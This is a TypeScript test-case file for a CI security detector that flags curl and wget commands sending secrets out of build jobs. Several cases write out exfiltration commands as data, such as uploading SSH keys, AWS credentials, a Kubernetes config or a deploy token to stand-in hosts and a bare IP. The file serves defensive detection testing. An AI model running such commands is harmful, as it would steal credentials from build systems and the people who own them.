// Cases of secret-sent. The markers are what the redactor leaves where a secret stood.
import { activityAt, type DetectorCase } from '../../services/core/detector-case.ts';
import { DAY } from '../../services/core/time.ts';

const AT = Date.UTC(2026, 2, 3, 14);
const MARKER = '[redacted:secret-value:f1d06a45d5881bb9]';

function started(at: number, commandLine: string | undefined) {
  return activityAt(
    at,
    'process',
    { action: 'start' },
    {
      source: 'tetragon',
      vcs: { repository: { name: 'example/app' } },
      cicd: { pipeline: { name: 'ci', definition: '.github/workflows/ci.yml', task: { name: 'test' } } },
      process: { executable: '/usr/bin/curl', ...(commandLine !== undefined && { command_line: commandLine }) },
    },
  );
}

const SIGN_IN = `curl -d client_id=app -d client_secret=${MARKER} https://login.example.com/token`;

export const cases: readonly DetectorCase[] = [
  {
    name: 'The environment goes to a bare address',
    kind: 'hit',
    history: [],
    activity: started(
      AT,
      `curl -sm 0.5 -d CI=true HOME=/root DEPLOY_TOKEN=${MARKER} SHLVL=2 http://203.0.113.94/upload`,
    ),
    expected: 'high',
  },
  {
    name: 'A secret in a form goes to somebody new',
    kind: 'hit',
    history: [],
    activity: started(AT, SIGN_IN),
    expected: 'low',
  },
  {
    name: 'The file in which GitLab hands over the cluster’s key goes to somebody new',
    kind: 'hit',
    history: [],
    activity: started(AT, 'curl -sS --data-binary @/builds/example/app.tmp/KUBE_CONFIG https://drop.example.net/k'),
    expected: 'high',
  },
  {
    name: 'Keys of a home folder go in a form',
    kind: 'hit',
    history: [],
    activity: started(AT, 'curl -F f=@$HOME/.ssh/id_ed25519 -F g=@$HOME/.aws/credentials https://drop.example.net'),
    expected: 'high',
  },
  {
    name: 'A report goes where it always went, for the first time as a file',
    kind: 'near-miss',
    history: [],
    activity: started(AT, 'curl -sS --data-binary @coverage.json https://reports.example.com/upload'),
    expected: null,
  },
  {
    name: 'A secret goes in the query of an address without a name',
    kind: 'hit',
    history: [],
    activity: started(AT, `wget -qO- http://203.0.113.94/?k=${MARKER}`),
    expected: 'high',
  },
  {
    name: 'The job signs in as it does every day',
    kind: 'near-miss',
    history: Array.from({ length: 20 }, (_, day) => started(AT - (30 - day) * DAY, SIGN_IN)),
    activity: started(AT, SIGN_IN),
    expected: null,
  },
  {
    name: 'A token in a header is how one signs in',
    kind: 'near-miss',
    history: [],
    activity: started(AT, `curl -H "Authorization: Bearer ${MARKER}" https://api.example.com/items`),
    expected: null,
  },
  {
    name: 'The first command of a new job sends its environment',
    kind: 'cold-start',
    history: [],
    activity: started(AT, `curl --data A_KEY=${MARKER} B_KEY=x C_KEY=y https://files.example.net`),
    expected: 'high',
  },
  {
    name: 'A process without a command line',
    kind: 'malformed',
    history: [],
    activity: started(AT, undefined),
    expected: null,
  },
];
